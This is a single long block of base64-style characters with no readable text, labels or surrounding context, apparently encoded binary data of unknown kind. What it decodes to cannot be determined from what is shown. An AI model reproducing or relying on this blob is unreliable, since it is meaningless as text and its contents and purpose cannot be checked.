ncpw9lpRdm6+q3x9rGC6fdUMbTiBPQ9LFFv23V/6yxxnncSh51u9WvQy632bp75TYiBjPNYY0Pjf5u7lMx0J63OsAvUc0qkEQyCQu9sf6S+tZGmiuES2IJudwmw/BEn9iP2iY+Na6354BQVpseQ51TSdcIhooqZwHkRuPN1kIk6tSHA2fZrZoHZDfGPrwGySIsac2Dkf8ox0VNwo82QlT92MzR2qpBpVcsm5A878b7/UkVDmXCSZQjlmMDM5Ra5QpNGOkauIH6ddKx1vg2jVdRkPps0Lf+28PHCmdtQdD91/QXooDhSuk82z9gD4JECSDjd4XbNivKdYjkeiKprDACSkYGKkJI8w7j1X11zgTe0ySp9lD9FxVHt6dmv8Wu+9TcKok91VqWsOLvUzz74q1hrC030j97B/IouWLWbiQswEBLPAH0k7v402pMJsY1fZSswIKykZYuMBeggl9c/NiGzKi0v2i0MJWNrbIrRW+owPn5JS+rVOyLusH/5nDVsNsziDrhStLrTlwZ+3b3KN59P8Eg8JwXUHG+Yv72JqI0DID6nC2qTVQTzPFa3c9F63ojbN6OL2Bb7SQXTebK0LEjDZxt6JUaKlHkn8gUkIojrdw7+GXiFtlbHWMTyEqbRzyKd5osB0TvW4dG3LyJkdaFNbU5lzu0WIvbzxTXm8Zetm1PIFWdltW5Vm6f4Y7w7ENSVkmD6pfcaEfkeKpRXwBBXA+DDq1ptos9y7cwhF2KFllfn3MotuGBtnXdhE7XlcsYaOvTGPmvP4NHOO8fW7KHR4a2PXvTIegbjhxRmXZyjrGJOFRk8LODkAEqmqcoXc9NY0r6aAI/7AJBu5uBWDKK18cm3S7I/bXdZcLlOlLHYrKLq1aQTkQYWEEB3ZWqs2qYhR93Wxmmc2chSVwvyx0SOlSIGVkPFxBJhFPCNTwr2cv95PmvBdHjWfzg2dl29/ZlyKmb0Wk1I4d/ohQmn+AdTkzh/UWXotyYPnazYML5zIyb3ioHd2tSIb/H5pP1m9f3I9VWc0VoKb+xR191HZJohwdSjd4mFVOsT5RMooZruLhTdnY1t9sZ8DUVWhr4BdQ7HHDdYT1DH6Aoct89gn/M6nBTrPNDTRzC4o/482L7KbcCQC2m+OXaDOeCOgYa0Bcru2uMZEE/FySuzNip9fvaaP3ebWG1WlrXgTvpMo8ndp0lmBVP/zBZ8Vi3vn6/SmQ+yxZnE4fhTbfwr+dHUnnpD0s6S12nF+DCJ5nUfyetgf7h/nlqjqqQO7krQozyoyee7zr8RwwHEbDprdN51g7LD+MNVR/UPF8UG7z6l2fEcEcwWaH2YgOItxFBQbKn09ymi8VZW9LLcx/EEGDmkbtQoAtnvIPuwgvTQj4ToZri4FNuYibMbNTSRnOspp0tQ4GIY8DFfXtr7UdYe6LXgnelFAQGv+jHPPndJ93rN5bpqrd2o7TWghJGyKrDopmwVZNUUVucGRQoOQwjvqImpVGH+8mQRCmdMqfms8uF7PAWABCnmN8TZLJxeljzEwL/+1Kocu87kvb/xCdhn6Cu9rrQ+cHitXb6SMxNmtDe92+qlVVoHMO06CQL4M6v8e0395jVphzvYs3ZW6GzDH5lXyuuasQkBK6nwIJsX1yy7saFo+l+MGysj6Q0Yuv1ZD4Nk62bhQPN/wsKwJ5yOTrSbN49Ya32q20KQJqpeTXRuyrHp7QpWOUZS9QXKxEkA2QBS1vrsVWMtArhkbjtlI830mRiRkTOTH0ee8gw2DPBYeQ8EIEEx3/j/3UwP/UaRbSWtoIqTlx57GfL2qJNZuhz8gPQb4m8F4+DA25nJbwE6iTRoHjt/CV89abAegyC5zTOn75zwzDPswymrYafyTBbpLmRG5vVaiOIb8FdMFSLN+hEI5b95wVaa/O8u8/SmE71aVcNoo7r4EM6I1/01h+dutBrtRLl8yfvQZ2nrTZSpkDrgGo/NnpgL+8FJk5TEQG4LJTkVXWt5roa1TRyHWGY8PVmL+YX1gVKCYFII7YtbDOYdsdHbc/Uhkb+DEtPlmUIKzce5fwzMCyfwzLNu+zsgAVudbPcrRLOQqRP2U1nV/i7t/LhrkeKFT3byvEMuG6hLLWvhDhm9Z9ulEXtO+QJKTtROeMX3FHd1DlhHFKpVFxVVt01dkNjba34Y7sUqRKxdIk3EaGzQIsswmnbhxdqopdCFyuttU9hwZMjonmFjbPIGZ1RTAZUpERE8mpcowDeuHM7gyeYdsrlydasmk6jYPyM0TQJ8V++DUkQYMgtUNIz16erjiFlOdLu+CYHljyfs7IgHmP4wJIGe3kLhjlDCGHf6joK3psviFhf7iyTo0nAne6U9PVeIB5zLjErQ7b3jDAt5FsABHLnyiW3n2osY7GxnoPJalINcHDpk6uxeOX32HK+kaXfZRi7NVOHsSjQ2zUZEm2BfiZ6k5ewMYeimk4k9LIEY5yYDm0ddYsCjXQC5He8RoY2fQdXq7V/RAPuBsNEOGCoZ+2JLV85xvsaCkmlzd/HmDNFx+0Vr3OMXud4+hCtsPcF9WCaTJRO+M6IFz71dNLsQfBUmf9H2DquM0YSOs8cHQZOTHYI6Fojwrbq9EfYHflJDKFDy9PIXBpeutvqffPJVsxaX7VAErlPR12QR1dJrxy6pUWRQ1NdSXluiel/2/SaOY/ZPrV9WKldVnebp9w9CVavaM6odFdFx+UCcv7szQ96jXgTXmSMaeysUBtRQt7fXLhdlBTwy3W/IrxzwgseK8y59/IR2gXa/7lVEMuPY3lsGywSEnrBcQvOG1Jv2XGRGTgiMCZ9pfRBbyWSKszVXj29RZlTwLlr4vQeod1SUVZDwnBRTxR9PyHJcLW/CjEms8wfzKYcBjcOfA4sy8BAbjq3KysPpIHIresI7w1tsKAQf+EvpmgDK8bh2jGBVkvdxk++8v0o8x7N7zLROjHAwJxe8lzTNx4q5A2uqaGddwxTq4i6ue1CAYZb9Pgg7gUkCORwl5XR86rTEGJe3HRM2kp402FKMaLEpW1fjkvRw6Vw8t6demtUUGRN3cX3GR6cOh8ywxCasmNc35jyyIGFg5iSX+lJmuaK9dcktjyZ/8y7VWn8SSqNGEurxE/7Gfy0Em2t+I29iXGAQ+U6lUbac7obri8boGUv3fR70FkB7HLQzq1pp6EGxGKu5BU9qQ8qs81bZCsr2W/+s1ImrRXU/l5nS5gbtX2l+up4hXwQ9qPt8GDDqEsAEkj+BLWxMsojnM+3pQNpxFhsUYMfFUthocEFSCsNi6dWA+loFJDm8PhdW6cdzV8KDgwXTPMLY1vKBmYKierg/BbXhRSZ5vkLa09mpk8I6NHRwsP0Uleb0v372T+TVTAfDj/0ASJ0sMiOaq7QYhnCB059yyvYlsbMt21CaQHttKjd7LrGWWCp6TBZ8GXSu/d4Vn7mUisbzkHFNFepX4pLba9vQYms8F8dZyp59aShQspCWY+qAD0E1j/eIS2BQ7u8t1mR6nvE+NL0hZPHk0lnsfzmL+CxcU/NBHcqDMenRzGJrNfiZQZ0yc9XyYsAet43/uwF91/b+FlA94AHico++WezW1bDeTnfY34Zt17v/Paz74cQb6D+ay6B/TO/BLivarv2Gzq2l8qFmjp46txHx0IbzOLTZpPgrVByB3CQhqPFOyHyJZxPhqkQ0TEjCnimllRFXJ8otgbu4w1XG6kG74JldeT61n5YYvhOHl6rjQlqdW88M4EgNOkM8o9NxVdoAG+kfcoKYLVFBeBBnUV3WRFJA8fAE1eol7p14ys3Mzjc4katjfkPgQqrjPLULGOrMmCq30y9m/LvQiiQSL0x5ESz5HvlxNkrm972GYsuWVfNKNZs5/EpiJKj8kT5Njy23CFwtGiW895Nfcl+kC7V4l8XmYDKSygrJ519t6ZEQ0aWKbJe6lv5SAPyX68PIx3BZgEt2xXw8lhjV6WnwBWZrHSdbWWiYBIsxVl5/h5ONpZIC7gNtTIPS5fGXz70Mh6cbfsufL14jafb45+h8FBmr1MJMzOw4sNlXU1iLwUWjDc/es2XXv2ch+3euGNkhQDeQc+JCdi1zBBXNG+2ygQjfleNj96+aWiJIc495VBlROP3XHkULEB2K9s/J7DHwoXm40KLa0DqO77fK9PBv545tMZxP4/oVT46gZygNog4qr5wnyklhOmw0GTJMCGTuBhvtPTnPUGLq1JK3MAjMRwVPMEVMfOW7/9zQab3gc1irPO0lRppxQlj18SiUO7j6KR+bVxiqo6CyUlZy4Rxyzxxb1c+yncT/WVmPMPLX/qSDymMtA5Ot/HI9VWqdegypKp5uJ3hA1oopMDQV0ktIune2I+2iOzx4tqAXpXoc66E9GKIus7/An6HQTvzpN7E2eydoGfAG1zHBA2bUKLHb+kV9OC5ksJp0LRwnAQZZUcJ3I30GRes5RxXTSK5q2lkBzaOSSp1E/j3UO6a9o23iH1LJWM5i5tNeqxvWpNUOtblVT35mItX5WYwiWP6EbjxpslSUvj0gpqVDvLZbX+5eHKvIr/KKvrGX+QUDJ7//LAGVXkgF/zn2tQYhFaB2Jom/a6tXoBDXXmjwr+ifgJxr1FCTEGVzjgOPhh9wxQN3RAi3Tyitn6Mf/03q1ZWoCR7jjR2QIGw2xU8hpueuvv02mC91VPXvrJT26mjsrMpzW/T/Lizxtao8LWjXAScALje2q0Txg7a29coyzD+jS5y8v7Jbo8duIzpjm/rkmxy0P8eTEZ2g41sgsM6uvX1AlegSk9xis+QsqyTiniL5MhE3joPhPPf3p2f2ROQ/pQVeZjfiUnyJCspC6LzJMHpGzJoJEhmuKolab2rdAu9ABYYXrC9J8vNkwAQ+qNkti8nAIVQRiE1vkxpNRvwS9LgYzgOX37MspSX+9kdPOSNiC0j11rHV95PvINAJno4Z47HhFoASu/QBJDK73dTkK7ZvwBeu0+5Hg97Y0O1dRowqzuH0ERHIw3IoH5ljC4D5xag2ySpHt3TO/w3n9gXeho4Dkzix6yXOScOMigWCEAkjbD/xPaRgxAN+j0Wd7jOVh5hnVekTNnVLsYApX56l9cxcm01Fc9YwslHHoOjAIj0FIEphtmh8EBM0AFt6LGwPNr7jb6eBcZjKEBFeGeoxhZlCbXxQAcwOVFN+OtNsnyVx3Sx5e+09C4h5Z/BoGmHE+1VAZwHM/9z4mzjcAgDlWkzF+F3SS6CZNQXc8wUvY4/Y7xMS8rtXkvoLAvrVtJmQWdHkmEDuIq6p4Mt/b1dOk218sI3tMlhsLkF82tb/9BFTnvBZGVh9GwB5CSW53NDUj6L/ogevTyjeZbgYjuxOyVqEIUW9goamjdZyWGQvP89J59lRVGlQrnuLpy2SM+NnX8F/joWJA39aqXs4eXwgqXaQwWhVjjbJ/FrOXDmb6BkkAo0XNjWiUnMT2C+vG6Ot8aCoa39et7eonSUIIqdqSZb1aQYkHSG/7c+zqQ+MwGu34+K5ctEWljyOloh+ZKJkPpeoFfgVxya+OKb4apfpK4oqFlZ5v9x+zBmNsUGeQ1PR0g1SCTX8Uf8og9h21shplsEMR2RO1jWN3W83busKoUh+EqzSY/8VWjUxJDD3m0REmN+gYdTMC5VcGbtkcZuF46in/Do02wBT3AY9Fp/Fd4Ry1qcd8d7OdleDAvKZ9rYhTGAf5n6lXn0C3anp8l2swpZC1QUFFAJJl8bzVw2h+Q6nJnkT/Xqq34FprmunSLky7ZmuP+Ko9SJ1v/T6RzRpgYcNp3si1/vw/Z/CjyGCFcFXju+aVjvwyPyhm3kmsRG/kO0nTu6dOCcEsXRl9mN/G1j46SFyDgSu2h/l8xV6NoxtUjtrFDDKvXtpD/uiO8RCiOjcxLjjz5ioQn55Sp0ft/gD9o0QBWEhxU3M1lCjmnDZxEsBfkTM6zuMfJgOe43E2CDO27FbZH7GAMvyA9GQH/eGFKNs/2I2xC615/q+KL01T+9s0Xe2hFARcIkcITJiGOpZJ+59MokdVNAfa4bK1h/muuAE8gg2MbBJoymizZWuLv5+KcUh3SDGyGlR88KBz7rO2X5Wvtq8g6wYUreiZM12vdH5QlvU+4UQzZKNOwSA0JRskBoh7rbm5147blBA6lY7rAPw3lesSpX3VguSrIf7RbGNq5/LHDEGXY5iau2qNyJ/dXrOjYyqgsXFc6Beq7MxIPeMY8A15M+8QAilCjaZT1GafllXNwOlIrkVA7nuitXOCHJHBni+a9ST0Clq4vhcLuTObtPDGpt8y9wEwnM7CpQWOE7nrQS+81LxEp6CI3ZnGay47OjNy2af9rT8NFsM5Lb2OwX/jsmCE4DQuvD+K8uGr72R0Q5j6ddJneH7yu0vFojmpUEGYu9ANGncQIPZOHNfD4wvhXf85J6y7Ng9Xm1wICgR0S5mdbCFE7vMZGWKBW54YcTTMit3L4f+EfycqGCuJ3MW8fBgnh5zAudkbAAYtf8CACHt3zvYhsWFZo/lGzj6K7evhbSeKi5qzYiGjo/OdsATGjLmdXVZ2f0721mflpEcfjDGZ211zq3rtVqkNaAMcyDxMqcYncTZ7cuVC4MCuvbkYbTprXf7TBWUNd57ycXUBBbPKkPB0LtGHy4i1v048wE6JnrcaO8chP2E3VHN3+0fOvG7E164GDaFSHcijOK1/hUteZjy+YWbkgvJRp7mtaKQyuCYXzsrInBzRTN/HfRcU1BKxKxRC+yzuCbXz7T5dIPsOGuFtC14mCd+dKxlLsfFJbaSjDfDiPgXGY3Is8aMp33M6KfZwwMMkZXAji3qb0ZpY0brNdihTmSEIvSr2xLAOhMMexOsVAA3/+8gum57HJzG6ozQ1g5NjALryaDlDo90CTiQ0RmHirpxrVBbCQ4vWVls6bxyyS72sHpDTAtTwy3/+vAX9bbRYdXBucV5xg0Bx9UP0wwiSY4OvnbmZ1F9qVQHfIDD15TijBoNnKwVaca0l61o/7n6Mh0oJWM3W8nbMPFWaai8hPD2xouMfKa9jUrHcquPydW1QzV/ZlhAp3F3hZnAP03EYIoeghhT1jet0rSrs4GUPJZD2UwfzwqVfoShfiHVCyVfL8YvlVs6Ue2A3MvoHnTINZhF52c6XxmjLgJY5DW/+IAX4UmFWwU07F/bjh245PJo/YjMzFsY9r5j37kFf8VP35elTKGcOutr8H4yGAsAbGPoQoFknR8/u9N6IOzqQmvC1uRrWMLjrOSpJ24pMXDCCaI/QPhyj4LZ95p0KlvtgncfxRCep0+QVkALlaA2uESmzwDb6uG2kqPhy8/wFCeKLRZrY4wv8n3EE8xszhnZKSchEVTIfR02bl3EknWtXD9RbAkdrZJsBuwPRO9ZPRNr/Ye1en/ouR8S0P5c39CB3BWno2LePKliRMmaYNLTJW0ZQ/T9OLAcO2FSUW5k0aLIMxdiloUQETBnHnK7HuQU8/oOF0KrSzA4blbJzR632y+BPmey4cfw8aSb7rfkkMFn2NUqG5c7SjRO6wDvmocUkyDNYjf8q348WaG17+Oeo0HeiFJGMAzhJ+jc7lEa8zDzRjwuB/GnWTXvknsh1m/QyeSM7DliCNiL5fW4E9se3MK9/t02NqPfVwPpCe1Bf7llkkyDh8fxr3wJPXeLJGAnYrrGNriJHidfkQdfAm05zz4Ub9JJIY0qBqfzfVaQdzgggV88+itnntZN4M+mo4O8+PFpWsZNEBGf9J11Rvd+uaqC8PkHfQaWwOlhQn8otZwpYlXP0t3hIdke4Zl4oYD32C9IWAuZZZH5i5M+99dUad/7WrsAtGgLH/NcKVo3xCE2Y0PfhH3mGawLdQOBMNdZo6ppu6cvR9EIgoezVPL4JgarC1M6ZQxMG8AqkbzSGt6xVmpErM/3DaUGfxDhqMUqNNegwHocnEA+o69cqu0GGDbPGXYeU+NmYIJomMPQSuk0xcDwrSPZBSiw5rpdg4ksFSx0t77YLMVM1zSd/VxeVWTwl15OOOYeQFn6/+WjDCT728DezenYsDvKKVOgDilWMCOVo/hGs9iPxkYk8t46KT0kqR6pN4595sZfWHhF0KKzISzqoMNKLIYkYcrJrcQsUEIWABiDGiDlKPjUi2Tb/Zpgx2WbjuzKHRXVU0CmcnS1uYTyiuAb4T2aXhk/0gz0tiPJ+Wjv2x33vJkiifGaYyBisrhhZIqshDf5DZOLeRbTn9BHsSQ+UBJ6ryV+x46MHVRncBfAgWcN97WsOf3msMlHEPf0TtKjN1mMovM8JV64/4VjItTxX//yjjaUvY695Vys/4FBbhwisg0J8Du7uxO3mhWFSi47Lhz7TPc5ZG0PvcFblvvfqFMC2DfU74mMo5Zo64/K6zt57Vf5lxbrbDZohSYDk96na51lTXu6MkK0vvrFHI7rf2aG0qut6bKE1BW2+Ak+wWHoqI7puYf6gDgyuXKC2F8btpVtTWmzR1ugVKrb4PaPQXkmfUnKHgz+9dKEhm88QuttODreN1HGVC50NaVPgiReTRsJWgV3QjsS8O5J2W6QmS/d6s5NyOp08CF7LHA/86lLSKdFhSG9lajo7UA//JmY/cnB851e6NZEfDeYhdEJ73RceqxCrftUZEaWD3QLCZzsB6Tk9LIbbsAb4EBykSg2gNNK82AxtS9nW7gKnS5R8yC5M3e6w44/vfVpdXsUX5uSSR3GGDCkKVo3RxPLCsm0E9FJyzfMg+p/nGgtNP4WPIbho/UFtGbqWt1oVRs72Zg4P0isAqm1rpsLy/lS7yXIDixwH6KB3HQoNJ4vg7PEeesZpoUFwWc30bRd3hoqEw6B8b9sOcTVTnZXoB26VpYtXyUhPNZ4o1XXBCv9tXffCEjWtIHHcNW2NjGthM6cB01Y5s0HokYXBrq9c0CfbBZbNthmSUjBo3ooJZxYgViYCSMNpnppjOk5d5XaFS7tvqY9o39SAvgN92SbBjY56MHZW43Vi3q+yhdRcNHQjFLpDjN8opYSe8UgqYd7nxCq9OVbIfB4neEaKfPZs0tKUemgEizhJzmWxOgZZTVRQht6+cuB4U1IiAsQyKVNtIsc9Eq+Q2EGw8MSNa9pknwzgPj9E0FWG3LTvV3AGJanyr1KiK0IYJcLs3hWgnxR51idbBGWIHdaCuyKZjzliEvPAe5tSzWxeDirrve1mJdf9WFbaktMRfWj6254pGhusRCNbv1aHlSE+dY7oxPj6fXIUaF9xR/e4HdAu2J6Zy7p1K3vZX4wMPJATAuVr9YXfwSF6snJXR+ojgY6t78OjKQiYiPYV/FJq4MKymi97o70l5/7qBvmauKKmY1uvdZIds8uvSw0eD47dzYwk1zx/ASSYpkI6zMvdK77o+ca8w1nuW/tGLIMt1Sv/Se/t9q4eKZYoDb2dYbZbBJY5uAlGRKZuWlrlRb98Gx0q6yB8PU/CyM9DxaRS5T9giEvxwpJTfSqP8M+eBqIk9o4Is/g6P7oCvsAblmLGM89XdnaUp0yRASJbbgge/qH5BAf/ynN/GQ8EKrPuTyYWAbmSIiqY+eN7MbCHwplrgfiVzMfTNDTq26IVye+fBLNOhY61GkbPcIC+OO+ffobR1EeIELiemQl8nNtNBLLtiv2E3xkid7cpYjNknm21icmrKUYE1AP7awlgmzD1hoc/YXfhQVt4t77b+Yy8YtOq/4tu3KabfcWulimpej5KyUtbAelAxH/QQ2IJ1Ba8J9TNE2D/yfsL3ijIt2t4S+kZUFpZe3/fmRfAZfApOl7VPGKiOuRd7xlwj5eM79h2VRoF+ieKUByLkuL4H3G6l/WaHFLjyEz4WKIn996ZcNQ/YjFU3gdQTSjdW8Vr0Fkp7HCkIsgS4A8Ek1nbpwYQMF8p6bNb2GTCJhUQbueXrgi1RxzClRvfjwYtg+4US2QU2yS4wyafVJzL4pcDKKg+5rIC0USdjhCuCMbuKA5vrWZoN6dgkmhyMpQS1XAWG3zWzLJOCXNafxvQ8CE6qHrqJb5p23dw0LKP7z7mW2m+SgmqN05FuxGtiwq7L1/6V4xMZwvyJaXQwe591h6Ws/oQ524xDIg9tz7faQ23bwxF3uW1cbtTYb/GTD8tm0LTv/NuFcNXwpuq/cZWinc54UzeoVrMpH2BbYPejbjjBxkAbbzw8V3FLNtbGOlD7GGBb3Lu1malGX1XF/fj/S6Ea52eCzXWRfLGvVZAgeHf2sFmDEqKTk6sLXOYiS+WS25598ZtvMY1jb+x6Be0AqhGmR4PAiifzQfpY8DqkqkNcENnk4+Nel7ac+kqjisvRRI/PzasxUaj7B+J1I8tD56hVG+aoi+aSMrnagmuhGYZkHFW8yTREEJzbvlz3HnnnTe0yN3JlWkS1btBpHibF0m5Fy0lC8X/hpKQqPimQ5ko+imytXQ/a+5rMKWkVXxsfpHz7dOZOdD7rVsZCRYCuFfP+eesXGW6LTD38yPkT5Xe/5H5XC26WufI6O/WAHBP1eaxO7Dh6/tPFRIfYEaSMk1te/eU7RuagmmS1nRklu638zwIGzkRjb6gHD8geurWE+KvPn8yC8pGiHYVaOhfMtBCgrHY/4KX5gqOwvbeIGRXIA+jPH7zvma7pZL1LFuxvkieZlUKO1wUxntbj683NKXLtNysA4r+kvaP0CqlRl7uDkXfpjSAawCYc8YyCiHAoTaIejIHStqLcbiyIMdRUCiAcsjm0bG4Z9PTrL0BtB/6e9yVbHK/xJXHeupdvvIAfvS0EygTng7/Q+7V7p7dQZWQgVoD4/y5E4rnZmKzu+xNQkvQC3zkL88rl+j+WcgS0+YxreoOtBBlXn76/CVDqZdUoiTsEnZ0d/9CJVfjUqH36M6N0mZZsHx3AwMrFJD3T4HEDxBcOlKDciyvJY4a3VrBgLjEDslzMHTFW+20Fddu8xck6v1c4Axgul4S1i8mXSHS0SuiOtfVwwqhgiPd0Va+S51UvuaNniMiPUCHxoUxyUxl1lOBqUH6ULZgcVzYoeNQ59ZUPBW4koB84iG57H65PcJ2yB5juY/0VBGBf1wBbMr4yMassLFbDT5m5Bf6AKWWTmivflLtqslLVHyn0DxOnIi2PnJxsS59Qr4ATt5xyHK1bnXosHFEdJs1sP1lbD/CmxGR4LD1+qzkBRu0Y7HIO39EWBjMOWgJCRGwmfyrsPRR35ApTbPi3uluIwSvNC9sZDhFgexdG+hJa0h58j7RnooYvMoJIcWtOrRjKfVD42MKfDOoR/SfZThPUwDU2TnBT0EI5Ry4DvkpF9Hqc97iZGd4vmmHPDZ2pqIBgrsleG90X0AAkSmRfGLJmgJuGoC/G5YxeMkqfn1jYaA8uNCh9f6xqRL77FtfQmUVBnlw9rpIf0jZpS/1fWypyYBlCKdIN8h1cTCcjd5SxjTSwpfS6cCinB8V2+Lxuz0tRz1FCM95SAMOpp85X8ewrCw1yZBwyDRRyQizo5SlA26dymjrY94jgqZF5451ojFne8hyPhIDfQpii+I3NhgijvpbdaeAMVS1jXbB8/GoHjOufJpnPNq7E9g/+R0mGMcv+OcGrv7pW4jxxbdkZ97DKFhriGyDIj4T/wmLjKI73k8wXCUVAoH4+RcoNvUdXJIS04SrscbUpkNMHvjs3qfaplavVFCkd83sdVXLF51yLGkegaAoZ2jLcvSBNxwV1ar3ndokKCe38ZSQs2oIDxiVDwjQGnXZ+X0d+iHVPILvruRgu8Is+GNBN2RfzHYaCSKCmwuCxGsFJCjyspsmzNmYTvS5Gm2r+G84mM35XYTDPQ9EsFllvJpPTfWqLsSE9R26cMgBC7t++2+cYnO7glbcJWEfweXlfileMF6CPJxP8wdsXSo8gQ2UL4E6NItePKLW3uut172c4JyQGMf+Ovl8qAuPa7BaWq0Rv7DpG0qzWGs+QkaBaYSU2zNd/75udXZKj3WuA2IsJwWXxrHJoAC9b0zs0Z/cKcKqIXFfTbGYVJF6dbw70tojLgroOC4TiQHMfk6EKVf5+Y014itqu34GWkgIaKYaosOkyx35PP6Xsp8/G3Z3fHqDkl3+6JogtYVjip9xGTjfIkAy8nPAK+rf83NKbDT//A3aH2H3aUC0IZBI4hioEwhEsg+p/r6/LgC50Pa308tn+9mC1dNt/LkWyyoA3WJ2XtFShxcxTxPsNjtBQ+Poylbfdum431TbMdW8rMtXTW36s1ASSPqAGIgSeRCJIQ16xlK2iHKFyQLteJQFPwfzelBCLIpUII5omAFinaWlBahij2/SxBEGh1VkD335rH6kN70sDxGnPVAXj6SexagjDM/YMTVpsymznDTSNRCM/oW8N55EHacSEz8cMj/For3rWgAoUH1CIzsMgDeA+SnqOyyDQd5y8XLnsLy899RwUjgADrzth579phTyji/u98mYH696iQcjNcZAt7+cPupkf1//fG7O8gGLp7kB2MxNCPrkdBKm29S830G9YF1j8fByN5qZngLi30l0FCoRp96M/TNC6v+eDWPKkXz41qXHIIaJSe2CtMZX1RMuoyZdF6An3qCm/F52pa9mCE//pxrz4alKzBvBWggRkhwUr2lay4sc7R4w7NoyeW8O/X11oPEDV2hDjYzTVyNjICZp2awGq3HGrnKPQb1MnRdHY5pAYJ/dY4mr5f7LtT1v774LqvdQYunLfV/VlW6Mj/ym147twaWYxanRKYk1oAoMQiLrxSkZf19Q5vXIlhw/l8E9kFNWFbTzPCQrLe8TGJ6zPnsYk0SzIEVheK7cELcmpAt6iFAfHf5XyjqGPRT6RjcXa9H3eZfj2gR+FrpfBndsE4utwOB4XkaM2DkcWAjrV+RRwKR1fTJ8imRx87LmB8xgWA/6VD5g6jA5pnL7BNBwf0mfhcz+IRxEsXkES64l/VYEgdZnOazINmUglg069UL+dE4aCckNZ8sLLt8QHr/I+sxFszqRAh0VsO903Nkc2rGlwDijG4WKF5kUcM9LWoC+jwFFG+yaNmH6hrKdWSMWVhQIfVNsY9BNrVSxOWKELYbR1qU29/QES2ZbxDz7Kh1EjxaAqQf82USu7J8LUIIAptUIwKae0kUC3EqFc+4Kffs9heN/RiD4MmQ9n7CQFPKhrAQxGoELxWYXTLiJVSTEN71NzeFdNmibBY2qb6MZ5fiFeOCaJrtE87YVPbZ8cUElOk92fhtiqFu9mzNwows6Qeb1B9Od2zm7gEMjowoR3ov+WH6+FfgcrauY8QkuZ24FSIX8LfZVygQhzcFBtPK1iUFH1e0K+ry5Sjeww8RATcM4aQFGMdy9bDdxTCI4+P/BS6oHozKbfG1nHzWJ2vw2iWbExcBkBUIpejscQr7hv/G+FohCh9MrB8yzo/Xk9RDR3wAE6avfu9HvoIg3jCED1AYZO0nmXMxTQ/Ir7i2BabM7xSDQF6c1UW3zh2RKO9Rpqbce+KV1rEVQitEXvvYEzGN47w4yF5XkyhXgFIXQUKJcim0SxhdDCGqdqmT1p2Bm2J1CAlCANFixj0cDExDFhhAo7H/X7Dc+Lt43uIIO0aGi7vhS9xulx02L3/LKGoq1/vlUnQ7ClwHoAs16SwVOPLfiKE5BHjysg6fsRDwL1HFfHDKK52jAmyhGlLMxiWzrOV00z2231ydrX240nrhXFX8BSAl8H9o4BPvAOslt5FsKxMOeiYF2E1S1dqz5qXcpTcEsBVkp/FGRGr+PZap0OFoK3Lzc3wxdS+A9AEvZrHbnucAfxoYkVN2LZ1pBV5v2rJuAL9IIKKtDV6RfXKlun43IaV63Mw2FnanOcfvaPht+aEHe4yic2WCZYJ1UHv0fboDctMshhm0KmmaS/d6rBUzHxubsltwkQJyuwOmP/GIWeTXSNw7qwCtRpN3DxCursIl/DJDqjuf2Fslre/ZhDA/Fa+4p6HEIKYyZ9ADvNURmG5nGfjs6zGEa06PoEQT3gl72MijRUQmPs/7tKXju1br0jIpXObV2a53HHZnk57EkTrjiD6fbViUpt7a+JG4fgw1AKrcnM4Mw4S7j0WT67yvtcdsz0gmK+zr8Ke5TrWaibndXXYa4y0ujZQ0Tm3T0KL8/4Rw08fimh9INbU+CyU4xU0vHwx1ajZ3xE56vjoxMGt8ocinwrj66kFmhJpHGvdtRuTxFS8R6DYpE1g2q/1HRLUeSIVo/QFX/Xe5KCH8PXgF9ojxKoh9Yn9OMuazEPOTpzJT1omYFgP8sCeZTnSjWlWO4RQbdPUdU4Cv6jYg1aRDN/7n2L4+3XmGq/BCjGH6+NQ4bIAKBPoMxH7D6RLRn/Tn12ZL35j6ID+t9kjhQI9+Dij63f0VHmwOo6d/8/24RjCexBUrFXSrUUKu2MKCaVzt90jK6u+T1bbQFI5kTGM64Mxj0r31IvQfuGzoCS85+Ffk+bGraw3vyemwbXVx/CQQpaLmaks2Sh0B92UrMF9xpy5fNeeQEmEq9/nUDZuSEEeCmIjDcxyxJY5KNbR+436w15eLp4OGPOD/8HeCwlrRFZtVYw1Gt1hlxbVAB9AnUOh2Fd4M+7ENDhaxdjx8V3IVZ7z2PxDuQTOAxrTksIZ8cNCnCs17ZoPO8yTMtAgK3948bughdFkSzxwFu3braXnN9OFOlQ8aJv1V4eGBhajIcQLXTb5oi8KzR23ogQUWTd6BLYRy+Ss/fRD99xo6HCSYddpMvDzXnkd+Ic5PyejOiBsfPKhKFmmuc0wIkJiBe6Dn4XIKVoN/Q/zZ3ISf2el1ax6SCeBLOUF328gSystYvo98Sq2tBCTH54LmZgDloJUbLtC2NGL7uHjjBxihgs/QLRgNhFB+RPKwIRP/O8KdlR66+YmmP5oSNpCx3TquD6+2yca280z7q/ghzVOS1OXFGEOnlF/NW/VJTBmYqqBAOGs05gHA4IpLbOPWWm28JkeElTmQN53o/R8dTMmw74JEEhoNd5K+A2sAO1tVLqoTXuPUbzz1CfRY+aMkYc2nC/AT/ZceaUuIPYLT2Hz/ASkvzz//epN+teakPG9P8fvDyUEGubaa/9RAJ5u3jjWPH+abFSLvurYj2SSeSU6bBS0xdUpX60V7EgIRCYDr/BJyF7RDq3Ygy6RQ2Ifowyh/de86wt2TNqd07caZayjTHezE6f6l6bykyRMl/NkM42CoT/uQ8YXOsbB58E8uAPY2Oq/GbsYAqhkLSApp1DF2FuIi/O/xf/VL35DD/4PwDk2ghTPkM+89xRmjzj7uo8idqnrU5eNvMHUNrYghYFFyz2fxBBt7MAp73fvAHIEKiAOsTsZTMu44gI0nxA91Qd7vfp1iLAmUQeoEaSVNJZy7m8Jt61n43HpJ9BiYrY7AZzy88Yirxe1C1B4b69nJuGEv1y6dOi+H3pjWMD7GUJlSvjmsfWoaAWzTq0XoohiyBo/AlPNFhS8kz07J6OBeV10a7FqH2N7eK9GR7f/MoiTaMGZIUjPmCc5mcve9zyan+j2/y847ei220wgjME1DlY7yhCxJ2H5/HJdaKQ8yS5VRu1O8XznjqWr52bCCWoGcBtLJTaX2rVB8DIFXtI/13E13T3+dXa2WKRkLjNnVBgkyANoQXSh9hznr+PMBzume3n6v+18qIjo+foXMhNA9uB8VzsLAswZB/Ccc8VOpqNbBA4aqFOVM8LVTDvUX7eCxOuYeGePx++4LvCDsUdTMcck5gZFC0k2gPMKKCvY9TUl2IqwCfQpCkaYZZh67TnufR9oGtXk4+y341u9C/dspo/M7o4C+TCs0ANhxhZgCpU2TJuRaSC6XA39YVfp9xAmWHrqBBkpiFM63nE09jQDEz3dKf4or0uDVwlqBoPYDuqKaC4zwt8U2Dnxw+4J